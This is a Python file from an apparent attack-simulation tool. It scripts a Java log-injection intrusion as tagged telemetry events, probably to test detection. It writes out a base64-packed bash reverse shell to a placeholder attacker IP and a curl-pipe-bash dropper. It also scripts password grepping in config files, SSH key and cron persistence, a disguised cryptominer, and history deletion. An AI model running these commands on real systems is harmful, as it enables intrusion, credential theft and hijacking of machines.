"""Reverse shell: a logged string makes a Java server load code, which starts a shell."""

from base64 import b64encode

from vedette.simulate.story import Accept, Connect, Delete, End, Run, Story, Write

_ATTACKER = "203.0.113.66"
_SHELL_LINE = f"bash -i >& /dev/tcp/{_ATTACKER}/4444 0>&1"
_PACKED = b64encode(_SHELL_LINE.encode()).decode()
_DROPPER = f"curl -fsSL http://{_ATTACKER}:8088/x.sh | bash"
_MINER = "/var/tmp/.cache/kworkerd"  # noqa: S108

REVERSE_SHELL = Story(
    name="reverse shell",
    title="Injected log line on a Linux application server to a reverse shell and a miner",
    hosts=(("app", "linux_app"), ("web", "linux_web")),
    hour=4.6,
    query="parent_name:java process_name:bash",
    steps=(
        Accept(0, "app", "java", "T1190", "<web.ip>", 8080),
        Connect(0.3, "app", "java", "T1190", _ATTACKER, 1389, "ldap.lookup.invalid"),
        Connect(0.4, "app", "java", "T1105", _ATTACKER, 8088),
        Run(0.5, "app", "drop", "T1059.004", "java", "/usr/bin/bash", f"bash -c '{_DROPPER}'"),
        Run(
            0.1,
            "app",
            "curl",
            "T1105",
            "drop",
            "/usr/bin/curl",
            f"curl -fsSL http://{_ATTACKER}:8088/x.sh",
        ),
        Connect(0.2, "app", "curl", "T1105", _ATTACKER, 8088),
        End(0.4, "app", "curl", ""),
        Run(0.1, "app", "script", "T1059.004", "drop", "/usr/bin/bash", "bash"),
        Run(
            1,
            "app",
            "unpack",
            "T1140",
            "script",
            "/usr/bin/bash",
            f"bash -c 'echo {_PACKED} | base64 -d | bash'",
        ),
        Run(0.1, "app", "decode", "T1140", "unpack", "/usr/bin/base64", "base64 -d"),
        End(0.1, "app", "decode", ""),
        Run(0.1, "app", "shell", "T1059.004", "unpack", "/usr/bin/bash", "bash -i"),
        Connect(0.2, "app", "shell", "T1095", _ATTACKER, 4444),
        Run(40, "app", "q1", "T1033", "shell", "/usr/bin/id", "id"),
        End(0.1, "app", "q1", ""),
        Run(6, "app", "q2", "T1082", "shell", "/usr/bin/uname", "uname -a"),
        End(0.1, "app", "q2", ""),
        Run(
            15,
            "app",
            "q3",
            "T1552.001",
            "shell",
            "/usr/bin/grep",
            "grep -ri password /opt/shop/conf",
        ),
        End(1, "app", "q3", ""),
        Write(30, "app", "shell", "T1098.004", "/opt/shop/.ssh/authorized_keys"),
        Run(20, "app", "cron", "T1053.003", "shell", "/usr/bin/crontab", "crontab -"),
        Write(0.3, "app", "cron", "T1053.003", "/var/spool/cron/crontabs/tomcat"),
        End(0.1, "app", "cron", ""),
        Write(12, "app", "shell", "T1105", _MINER),
        Run(2, "app", "mode", "T1222.002", "shell", "/usr/bin/chmod", f"chmod +x {_MINER}"),
        End(0.1, "app", "mode", ""),
        Run(1, "app", "miner", "T1496", "shell", _MINER, f"{_MINER} -o pool.mining.invalid:3333"),
        Connect(1, "app", "miner", "T1496", "203.0.113.67", 3333, "pool.mining.invalid"),
        Delete(20, "app", "shell", "T1070.003", "/opt/shop/.bash_history"),
        End(30, "app", "shell", ""),
    ),
)
